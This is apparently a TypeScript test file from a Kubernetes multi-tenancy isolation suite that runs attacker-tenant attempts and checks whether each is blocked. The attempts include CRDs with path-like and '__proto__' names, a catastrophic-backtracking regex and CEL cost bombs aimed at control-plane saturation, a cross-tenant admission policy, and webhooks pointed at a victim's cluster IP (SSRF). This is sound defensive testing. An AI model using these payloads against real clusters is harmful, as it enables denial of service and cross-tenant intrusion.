import { until } from '../../stdx/index.ts'
import { type AttackContext, blocked, escaped, type Outcome } from '../attack.ts'
import type { ApiAnswer } from '../tenant-api.ts'
import { allRefused, counted, refuser, said } from './expect.ts'
import { CONFIG_MAPS, configMap, family, refusedAll, secretOf } from './own-and-other.ts'

const CRDS = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions'
const ADMISSION = 'admissionregistration.k8s.io/v1'

function definition(plural: string, group: string, kind: string, spec: object, extra: object = {}): object {
  return {
    apiVersion: 'apiextensions.k8s.io/v1',
    kind: 'CustomResourceDefinition',
    metadata: { name: `${plural}.${group}` },
    spec: {
      group,
      scope: 'Namespaced',
      names: { plural, singular: plural.replace(/s$/, ''), kind },
      versions: [
        {
          name: 'v1',
          served: true,
          storage: true,
          schema: { openAPIV3Schema: { type: 'object', properties: { spec: { type: 'object', ...spec } } } },
        },
      ],
      ...extra,
    },
  }
}

/** A kind of the attacker's own, which its control plane serves. */
async function kindWith(
  { attacker, mark }: AttackContext,
  spec: object,
): Promise<{ answer: ApiAnswer; path: string; group: string }> {
  const group = `${mark}.example`
  const answer = await attacker.own(CRDS, { method: 'POST', body: definition('bombs', group, 'Bomb', spec) })
  const path = `/apis/${group}/v1/namespaces/default/bombs`
  if (answer.code < 400)
    await until(async () => (await attacker.own(path)).code === 200, {
      timeoutMs: 10_000,
      everyMs: 100,
      what: 'The new kind',
    })
  return { answer, path, group }
}

async function ownKind(context: AttackContext): Promise<string> {
  const { attacker } = context
  const { answer, path, group } = await kindWith(context, { properties: { text: { type: 'string' } } })
  if (answer.code >= 400) throw new Error(`a harmless kind: ${said(answer)}`)
  await attacker.create(path, {
    apiVersion: `${group}/v1`,
    kind: 'Bomb',
    metadata: { name: 'harmless' },
    spec: { text: 'x' },
  })
  await attacker.must(`${CRDS}/bombs.${group}`, { method: 'DELETE' })
  await until(async () => (await attacker.own(`${CRDS}/bombs.${group}`)).code === 404, {
    timeoutMs: 20_000,
    what: 'The end of the kind',
  })
  return 'a harmless kind of its own is served'
}

/** Makes a kind with `spec`, writes `body` to it, and asks for the victim meanwhile. */
async function bomb(context: AttackContext, spec: object, body: object): Promise<Outcome> {
  const { attacker, victim } = context
  const { answer, path, group } = await kindWith(context, spec)
  if (answer.code >= 500) return escaped(`the control plane fails over the definition: ${said(answer)}`)
  if (answer.code >= 400) return blocked(refuser(answer), `the definition: ${said(answer)}`)
  const written = attacker
    .own(path, {
      method: 'POST',
      body: { apiVersion: `${group}/v1`, kind: 'Bomb', metadata: { name: 'x' }, spec: body },
    })
    .catch((error: unknown) => error)
  const served: number[] = []
  for (let i = 0; i < 5; i++) served.push((await victim.own(secretOf(victim))).code)
  const ended = await written
  await attacker.own(`${CRDS}/bombs.${group}`, { method: 'DELETE' })
  if (served.some((code) => code !== 200))
    return escaped(`the victim was answered ${counted(served)} meanwhile`)
  if (ended instanceof Error) return escaped(`the write was not answered: ${ended.message}`)
  const end = ended as ApiAnswer
  return end.code >= 500
    ? escaped(`the write: ${said(end)}`)
    : blocked(
        end.code < 400 ? 'matching in linear time' : refuser(end),
        `the write: ${end.code < 400 ? end.code : said(end)}; the victim was served meanwhile`,
      )
}

export const extensionAttacks = family('extensions', 'tenant API', [
  {
    id: 'kind-of-the-platform',
    title: 'defines kinds in the groups of Kubernetes and of the platform, and under names that are paths',
    standards: ['MTB-PL1-BC-CPI-2'],
    control: ownKind,
    async attempt(context) {
      const { attacker, victim } = context
      const before = (await victim.must<{ groups: unknown[] }>('/apis')).groups.length
      const answers: [string, ApiAnswer][] = []
      for (const [plural, group, kind] of [
        ['tenants', 'tenancy.bulkhead.dev', 'Tenant'],
        ['secrets', '', 'Secret'],
        ['deployments', 'apps', 'Deployment'],
        ['customresourcedefinitions', 'apiextensions.k8s.io', 'CustomResourceDefinition'],
        ['nodes', 'metrics.k8s.io', 'NodeMetrics'],
        ['x', 'a/../../b', 'X'],
        ['..', 'example.com', 'X'],
        ['__proto__', 'constructor.prototype', 'X'],
      ] as const)
        answers.push([
          `${plural}.${group}`,
          await attacker.own(CRDS, { method: 'POST', body: definition(plural, group, kind, {}) }),
        ])
      const after = (await victim.must<{ groups: unknown[] }>('/apis')).groups.length
      return before === after
        ? allRefused(answers)
        : escaped(`the victim's discovery has ${after} groups instead of ${before}`)
    },
  },
  {
    id: 'kind-pattern-bomb',
    title: 'defines a kind whose pattern backtracks without end, and writes what makes it do so',
    replays: 'the 2019 outage of a content network by one backtracking pattern',
    vector: 'control-plane saturation',
    standards: ['T1499'],
    control: ownKind,
    attempt: (context) =>
      bomb(
        context,
        { properties: { text: { type: 'string', pattern: '^(([a-z])+.)+[A-Z]([a-z])+$' } } },
        { text: 'a'.repeat(5_000) },
      ),
  },
  {
    id: 'kind-expression-bomb',
    title: 'defines a kind with a CEL rule whose cost is the fourth power of what is written',
    vector: 'control-plane saturation',
    standards: ['T1499'],
    always: true,
    control: ownKind,
    attempt: (context) =>
      bomb(
        context,
        {
          properties: { list: { type: 'array', items: { type: 'integer' }, maxItems: 2_000 } },
          'x-kubernetes-validations': [
            {
              rule: 'self.list.all(a, self.list.all(b, self.list.all(c, self.list.all(d, a + b + c + d >= 0))))',
              message: 'x',
            },
          ],
        },
        { list: Array.from({ length: 2_000 }, (_, i) => i) },
      ),
  },
  {
    id: 'kind-string-bomb',
    title: 'defines a kind with a CEL rule that doubles a string thirty times',
    vector: 'control-plane saturation',
    standards: ['T1499'],
    control: ownKind,
    attempt: (context) => {
      const doubled = Array.from({ length: 30 }).reduce<string>(
        (inner) => `[${inner}].map(x, x + x)[0]`,
        'self.text',
      )
      return bomb(
        context,
        {
          properties: { text: { type: 'string' } },
          'x-kubernetes-validations': [{ rule: `${doubled}.size() > 0`, message: 'x' }],
        },
        { text: 'x'.repeat(10_000) },
      )
    },
  },
  {
    id: 'policy-over-others',
    title: "lays an admission policy on everything everywhere, to stop and to see the victim's writes",
    async control(context) {
      await policy(context)
      const { attacker, mark } = context
      const denied = await until(
        async () => {
          const answer = await attacker.own(CONFIG_MAPS, {
            method: 'POST',
            body: configMap(`${mark}-denied`),
          })
          if (answer.code < 400) await attacker.own(`${CONFIG_MAPS}/${mark}-denied`, { method: 'DELETE' })
          return answer.code >= 400 ? answer : undefined
        },
        { timeoutMs: 15_000, everyMs: 200, what: 'A policy of its own that denies' },
      )
      return `its own write is denied by it: ${denied.code}`
    },
    async attempt({ attacker, victim, mark }) {
      const answer = await victim.own(CONFIG_MAPS, { method: 'POST', body: configMap(`${mark}-denied`) })
      await attacker.own(`/apis/${ADMISSION}/validatingadmissionpolicybindings/${mark}`, { method: 'DELETE' })
      await attacker.own(`/apis/${ADMISSION}/validatingadmissionpolicies/${mark}`, { method: 'DELETE' })
      return answer.code === 201
        ? blocked(
            "the tenant's own control plane has nothing of others",
            'the victim writes what the policy denies: 201',
          )
        : escaped(`the victim's write: ${said(answer)}`)
    },
  },
  {
    id: 'webhooks',
    title: 'registers webhooks and aggregated APIs that make the control plane call where the tenant cannot',
    replays:
      'CVE-2020-8555 and CVE-2020-8561: components of a cluster were made to send requests by what users wrote',
    vector: 'platform components',
    async attempt(context) {
      const { attacker, mark, victim } = context
      const clientConfig = { url: `https://${victim.canaries.clusterIP}:443/`, service: undefined }
      const webhook = {
        name: `${mark}.example.com`,
        clientConfig,
        sideEffects: 'None',
        admissionReviewVersions: ['v1'],
        rules: [{ apiGroups: ['*'], apiVersions: ['*'], operations: ['*'], resources: ['*'] }],
      }
      const outcome = await refusedAll(context, [
        {
          path: `${attacker.root}/apis/${ADMISSION}/validatingwebhookconfigurations`,
          method: 'POST',
          body: {
            apiVersion: ADMISSION,
            kind: 'ValidatingWebhookConfiguration',
            metadata: { name: mark },
            webhooks: [webhook],
          },
        },
        {
          path: `${attacker.root}/apis/${ADMISSION}/mutatingwebhookconfigurations`,
          method: 'POST',
          body: {
            apiVersion: ADMISSION,
            kind: 'MutatingWebhookConfiguration',
            metadata: { name: mark },
            webhooks: [webhook],
          },
        },
        {
          path: `${attacker.root}/apis/apiregistration.k8s.io/v1/apiservices`,
          method: 'POST',
          body: {
            apiVersion: 'apiregistration.k8s.io/v1',
            kind: 'APIService',
            metadata: { name: 'v1.example.com' },
            spec: {},
          },
        },
        {
          path: attacker.root + CRDS,
          method: 'POST',
          body: definition(
            'hooked',
            `${mark}.example`,
            'Hooked',
            {},
            {
              conversion: {
                strategy: 'Webhook',
                webhook: { clientConfig, conversionReviewVersions: ['v1'] },
              },
            },
          ),
        },
      ])
      return outcome
    },
  },
])

async function policy({ attacker, mark }: AttackContext): Promise<void> {
  await attacker.create(`/apis/${ADMISSION}/validatingadmissionpolicies`, {
    apiVersion: ADMISSION,
    kind: 'ValidatingAdmissionPolicy',
    metadata: { name: mark },
    spec: {
      failurePolicy: 'Fail',
      matchConstraints: {
        resourceRules: [
          {
            apiGroups: [''],
            apiVersions: ['v1'],
            operations: ['CREATE', 'UPDATE'],
            resources: ['configmaps'],
          },
        ],
      },
      validations: [
        { expression: `!object.metadata.name.startsWith('${mark}')`, message: 'the attacker says no' },
      ],
    },
  })
  await attacker.create(`/apis/${ADMISSION}/validatingadmissionpolicybindings`, {
    apiVersion: ADMISSION,
    kind: 'ValidatingAdmissionPolicyBinding',
    metadata: { name: mark },
    spec: { policyName: mark, validationActions: ['Deny'] },
  })
}
